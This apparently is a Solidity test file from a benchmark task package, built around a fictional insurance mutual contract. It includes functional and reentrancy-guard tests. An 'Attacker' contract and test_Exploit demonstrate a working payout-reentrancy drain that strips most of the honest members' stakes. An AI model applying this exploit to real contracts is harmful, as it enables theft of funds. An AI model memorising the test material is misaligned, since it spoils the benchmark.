// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./FoghornMutual.sol";

// assay-canary-dcfa41c1-5cc8-4b8f-a956-88380b35cef0

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// A skipper with a contract wallet.
contract Skipper {
    FoghornMutual internal mutual;

    constructor(FoghornMutual mutual_) {
        mutual = mutual_;
    }

    receive() external payable virtual {}

    function payIn(uint256 amount) public {
        mutual.payIn{value: amount}();
    }

    function drawDown(uint96 amount) public {
        mutual.drawDown(amount);
    }

    function giveNotice() public {
        mutual.giveNotice();
    }

    function leave() public {
        mutual.leave();
    }

    function endorse(address to, uint96 amount) public {
        mutual.endorse(to, amount);
    }
}

/// Endorses the stake to its mate while it is being paid out.
/// Comes back while it is paid, and insists on being told off.
contract Impatient is Skipper {
    bytes internal again;

    constructor(FoghornMutual mutual_) Skipper(mutual_) {}

    receive() external payable override {
        if (again.length == 0) return;
        (bool ok, bytes memory why) = address(mutual).call(again);
        require(!ok && bytes4(why) == FoghornMutual.Busy.selector, "let through");
    }

    function plan(bytes calldata again_) external {
        again = again_;
    }
}

contract Attacker is Skipper {
    Skipper internal mate;

    constructor(FoghornMutual mutual_) Skipper(mutual_) {
        mate = new Skipper(mutual_);
    }

    receive() external payable override {
        (uint96 stake, , , ) = mutual.members(address(this));
        if (stake > 0) endorse(address(mate), stake);
    }

    function enter() external {
        payable(address(mate)).transfer(1 ether);
        mate.payIn(1 ether);
        payIn(address(this).balance);
        mate.giveNotice();
        giveNotice();
    }

    function run() external {
        leave();
        mate.leave();
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    FoghornMutual private mutual;
    Skipper private ines;
    Skipper private jorn;
    Attacker private wrecker;
    address private constant ADJUSTER = address(0xAD7);

    function setUp() public {
        vm.warp(1_700_000_000);
        mutual = new FoghornMutual(ADJUSTER);
        ines = new Skipper(mutual);
        jorn = new Skipper(mutual);
        wrecker = new Attacker(mutual);
        vm.deal(address(ines), 10 ether);
        vm.deal(address(jorn), 10 ether);
        vm.deal(address(wrecker), 21 ether);
        ines.payIn(10 ether);
        jorn.payIn(10 ether);
    }

    function test_Regular() public {
        require(mutual.memberCount() == 2 && mutual.reserve() == 1 ether && mutual.totalStake() == 19 ether, "paid in");
        ines.endorse(address(jorn), 2 ether);
        jorn.drawDown(1.5 ether);
        require(address(jorn).balance == 1.5 ether, "drawn down");
        require(!_try(jorn, abi.encodeCall(Skipper.drawDown, (10 ether))), "least stake");
        require(!_try(jorn, abi.encodeCall(Skipper.endorse, (address(0xBEE), 1))), "to a stranger");

        require(!_try(ines, abi.encodeCall(Skipper.leave, ())), "without notice");
        ines.giveNotice();
        vm.warp(block.timestamp + 29 days);
        require(!_try(ines, abi.encodeCall(Skipper.leave, ())), "before its end");
        ines.endorse(address(jorn), 0.5 ether);
        vm.prank(ADJUSTER);
        mutual.payDamage(address(jorn), 0.4 ether, "keel");
        require(address(jorn).balance == 1.9 ether && mutual.reserve() == 0.6 ether, "damage paid");
        vm.warp(block.timestamp + 1 days);
        ines.leave();
        require(address(ines).balance == 7 ether, "stake taken out");
        require(!_try(ines, abi.encodeCall(Skipper.leave, ())), "left twice");
        require(mutual.memberCount() == 1 && mutual.totalStake() == 10.5 ether, "one member left");
        require(address(mutual).balance == mutual.totalStake() + mutual.reserve(), "books");

        vm.prank(address(jorn));
        mutual.giveNotice();
        vm.prank(address(jorn));
        mutual.withdrawNotice();
        vm.warp(block.timestamp + 30 days);
        require(!_try(jorn, abi.encodeCall(Skipper.leave, ())), "stays");
    }

    function _try(Skipper who, bytes memory data) private returns (bool ok) {
        (ok, ) = address(who).call(data);
    }

    // What the two honest skippers can still get out.
    function recoverable() public view returns (uint256) {
        (uint96 a, , , ) = mutual.members(address(ines));
        (uint96 b, , , ) = mutual.members(address(jorn));
        uint256 stakes = uint256(a) + b;
        return address(mutual).balance < stakes ? address(mutual).balance : stakes;
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Members' business is the members', damages the adjuster's.
    function test_RefusesStrangers() public {
        address none = address(0xBEE);
        bytes memory notOne = abi.encodeWithSelector(FoghornMutual.NotAMember.selector, none);
        refuses(none, notOne);
        mutual.drawDown(0);
        refuses(none, notOne);
        mutual.giveNotice();
        refuses(none, notOne);
        mutual.withdrawNotice();
        refuses(none, notOne);
        mutual.leave();
        refuses(none, notOne);
        mutual.endorse(address(ines), 0);
        refuses(none, FoghornMutual.NotTheAdjuster.selector);
        mutual.payDamage(address(ines), 1, "");
        refuses(ADJUSTER, notOne);
        mutual.payDamage(none, 1, "");
        vm.deal(none, 1 ether);
        refuses(none, abi.encodeWithSelector(FoghornMutual.StakeTooLow.selector, 0.095 ether));
        mutual.payIn{value: 0.1 ether}();
    }

    /// One payment at a time, to who takes it.
    function test_RefusesASecondPayment() public {
        Impatient pat = new Impatient(mutual);
        vm.deal(address(pat), 10 ether);
        pat.payIn(10 ether);
        pat.plan(abi.encodeCall(mutual.drawDown, (0.1 ether)));
        pat.drawDown(1 ether);
        pat.plan(abi.encodeCall(mutual.leave, ()));
        pat.drawDown(1 ether);
        pat.plan(abi.encodeCall(mutual.payDamage, (address(pat), 0, "")));
        pat.drawDown(1 ether);
        address rock = address(this);
        vm.deal(rock, 2 ether);
        mutual.payIn{value: 2 ether}();
        vm.expectRevert(abi.encodeWithSelector(Purse.Refused.selector, rock, 1));
        mutual.drawDown(1);
    }

    function exploit() public {
        wrecker.enter();
        vm.warp(block.timestamp + 30 days);
        wrecker.run();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(before == 19 ether && recoverable() <= 3 ether, "stakes are all there");
    }

    function target() public view returns (address) {
        return address(mutual);
    }

    function attacker() public view returns (address) {
        return address(wrecker);
    }
}
